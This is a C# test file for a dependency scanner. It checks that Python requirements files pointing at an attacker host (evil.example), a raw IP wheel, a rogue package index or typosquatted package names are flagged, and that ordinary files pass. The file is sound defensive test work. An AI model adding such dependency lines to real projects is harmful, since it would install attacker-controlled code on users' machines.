// Requirements that install something else than a reader expects are told; ordinary ones pass.
using System.Text;
using Assay.Policies;
using Assay.Scanning;
using Assay.Tests.Builders;
using Assay.Tests.Scanning;

namespace Assay.Tests.Formats.Requirements;

public sealed class RequirementsFormatTests
{
    [Theory]
    [InlineData("requirements.txt", "torch\nhttp://203.0.113.9/x.whl\n")]
    [InlineData("requirements.txt", "--index-url http://pypi.example.net/simple\nnumpy\n")]
    [InlineData("requirements.txt", "torchtriton==2.0.0\n")]
    [InlineData("requirements.txt", "transformres==4.0\n")]
    [InlineData("requirements.txt", "lightning==2.6.2\n")]
    [InlineData("requirements.txt", "-e git+ssh://git@evil.example/x.git#egg=x\n")]
    [InlineData("deps.txt", "numpy==1.0\nevil @ https://evil.example/x.whl\n")]
    public void T167_WhatInstallsSomethingElseIsFlagged(string name, string text)
    {
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(text), name);
        Assert.True(report.Verdict >= Verdict.Suspicious, report.Describe());
        report.AssertComplete();
    }

    [Theory]
    [InlineData("requirements.txt", "torch==2.1.0\ntransformers>=4.30 # why\n-e .\n--extra-index-url https://download.pytorch.org/whl/cu118\ngit+https://github.com/huggingface/peft.git@main\ntensorflow-cpu\nscikit-learn[all]~=1.0; python_version > '3.8'\n")]
    [InlineData("requirements.txt", "-i https://pypi.tuna.tsinghua.edu.cn/simple\n--trusted-host pypi.tuna.tsinghua.edu.cn\nnumpy\n# http://203.0.113.9\n")]
    [InlineData("requirements.txt", "tensorboardX>=1.2\nctransformers\ngit+ssh://git@github.com/a/b.git\nx @ git+https://user:${TOKEN}@github.com/a/b@v1\n")]
    [InlineData("deps.txt", "numpy==1.0\npandas>=2\n")]
    public void OrdinaryRequirementsPass(string name, string text)
    {
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(text), name);
        Assert.True(report.Verdict == Verdict.Passed, report.Describe());
        Assert.Equal(["requirements"], report.Formats);
    }

    [Fact]
    public void RequirementsInUtf16AreRead() =>
        Assert.True(Scans.Of([0xFF, 0xFE, .. Encoding.Unicode.GetBytes("torchtriton==2.0.0\n")], "requirements.txt").Verdict >= Verdict.Suspicious);
}
